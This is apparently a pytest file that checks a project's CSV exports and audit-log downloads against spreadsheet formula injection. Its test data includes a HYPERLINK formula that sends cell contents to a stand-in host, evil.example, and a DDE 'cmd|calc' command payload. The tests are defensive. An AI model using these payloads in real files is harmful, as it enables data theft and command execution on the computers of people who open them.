"""CSV for spreadsheets: a cell a spreadsheet would run as a formula is written as text.

Customer text reaches eval rows (and names and ids reach the audit log), so every CSV export and
download puts a single quote before a cell that starts with =, +, -, @, a tab or a carriage return
(OWASP's rule for CSV injection). JSONL exports keep the text as it is.
"""

import ast
import csv
import io
import json
from pathlib import Path

import pytest

from flywheel.__main__ import main
from flywheel.audit import audit_csv
from flywheel.auth import User
from flywheel.evals.exports import export_text, export_version, spreadsheet_cell
from flywheel.evals.versions import import_evalset
from flywheel.store.audit import audit
from flywheel.store.db import write

ANA = User("ana", "lead")
PAGES = Path(__file__).resolve().parent.parent / "pages"
# input -> the cell a spreadsheet must get
CELLS = {
    '=HYPERLINK("http://evil.example/?"&A1,"refund")': '\'=HYPERLINK("http://evil.example/?"&A1,"refund")',
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "My card costs = 3 euros, why?": "My card costs = 3 euros, why?",  # not at the start: plain text
    "'=already text": "'=already text",
    "a - b @ c + d": "a - b @ c + d",
}


@pytest.mark.parametrize("value, cell", [*CELLS.items(), ("", ""), (None, None), (-3, -3), (0, 0)])
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_quote(value, cell):
    assert spreadsheet_cell(value) == cell


@pytest.fixture
def suite_db(db):
    lines = [
        {"id": f"x-{n}", "input": text, "expected": "=1+1", "criterion": "-stay polite", "tags": ["@ops"]}
        for n, text in enumerate(CELLS)
    ]
    data = "\n".join(json.dumps(line) for line in lines).encode()
    import_evalset(db, ANA, data, "formulas.jsonl")
    return db


def _csv_rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _csv_file(path: Path) -> list[dict]:
    with path.open(encoding="utf-8", newline="") as stream:  # a carriage return in a cell stays one
        return list(csv.DictReader(stream))


def _check_eval_csv(rows: list[dict]) -> None:
    assert [row["input"] for row in rows] == list(CELLS.values())
    assert {row["expected"] for row in rows} == {"'=1+1"}
    assert {row["criterion"] for row in rows} == {"'-stay polite"}
    assert {row["tags"] for row in rows} == {"'@ops"}
    assert {row["adversarial"] for row in rows} == {"0"}
    assert all(row["row_id"].startswith("r-") for row in rows)


def test_the_eval_set_csv_download_is_safe_in_a_spreadsheet(suite_db):
    _check_eval_csv(_csv_rows(export_text(suite_db, 1, "csv")))


def test_the_eval_set_csv_file_and_cli_export_are_safe_in_a_spreadsheet(suite_db, tmp_path):
    out = tmp_path / "v1.csv"
    assert export_version(suite_db, 1, "csv", out) == len(CELLS)
    _check_eval_csv(_csv_file(out))
    db_path = suite_db.conn.execute("PRAGMA database_list").fetchone()[2]
    cli_out = tmp_path / "cli.csv"
    assert main(["export", "--db", db_path, "--version", "1", "--format", "csv", "--out", str(cli_out)]) == 0
    _check_eval_csv(_csv_file(cli_out))


@pytest.mark.parametrize("fmt", ["jsonl", "inspect", "promptfoo", "openai-evals"])
def test_jsonl_exports_keep_the_text_as_written(suite_db, fmt):
    text = export_text(suite_db, 1, fmt)
    assert "'=HYPERLINK" not in text and "'-2+3" not in text
    lines = [json.loads(line) for line in text.splitlines()]
    assert len(lines) == len(CELLS)
    if fmt == "jsonl":
        assert [line["input"] for line in lines] == list(CELLS)


def test_the_audit_log_download_is_safe_in_a_spreadsheet(db):
    with write(db):
        audit(db, "=cmd|' /C calc'!A0", "rename", "taxonomy", "@SUM(A1)", note="-1")
        audit(db, "ana", "+label", "trace", "t-1")
    rows = _csv_rows(audit_csv(db, ANA))
    assert [(r["actor"], r["action"], r["entity_id"]) for r in rows] == [
        ("ana", "'+label", "t-1"),
        ("'=cmd|' /C calc'!A0", "rename", "'@SUM(A1)"),
    ]
    assert json.loads(rows[1]["detail"]) == {"note": "-1"}  # a JSON object starts with {: as it is
    assert all(not r["at"].startswith("'") and r["id"].isdigit() for r in rows)


# Every download button in the app that offers CSV, and the library function that writes its data.
SAFE_CSV_SOURCES = {"audit_csv", "export_text"}


def _download_buttons() -> list[tuple[str, ast.Call]]:
    found = []
    for page in sorted(PAGES.glob("*.py")):
        for node in ast.walk(ast.parse(page.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call) and getattr(node.func, "attr", "") == "download_button":
                found.append((page.name, node))
    return found


def test_every_csv_download_button_writes_through_a_safe_function():
    buttons = _download_buttons()
    assert {page for page, _ in buttons} >= {"audit.py", "evalsets.py"}
    for page, call in buttons:
        data = call.args[1] if len(call.args) > 1 else next(k.value for k in call.keywords if k.arg == "data")
        called = {
            n.func.attr if isinstance(n.func, ast.Attribute) else n.func.id
            for n in ast.walk(data)
            if isinstance(n, ast.Call)
        }
        assert called & SAFE_CSV_SOURCES, (
            f"pages/{page}:{call.lineno}: a download whose data is not written by {SAFE_CSV_SOURCES}"
        )
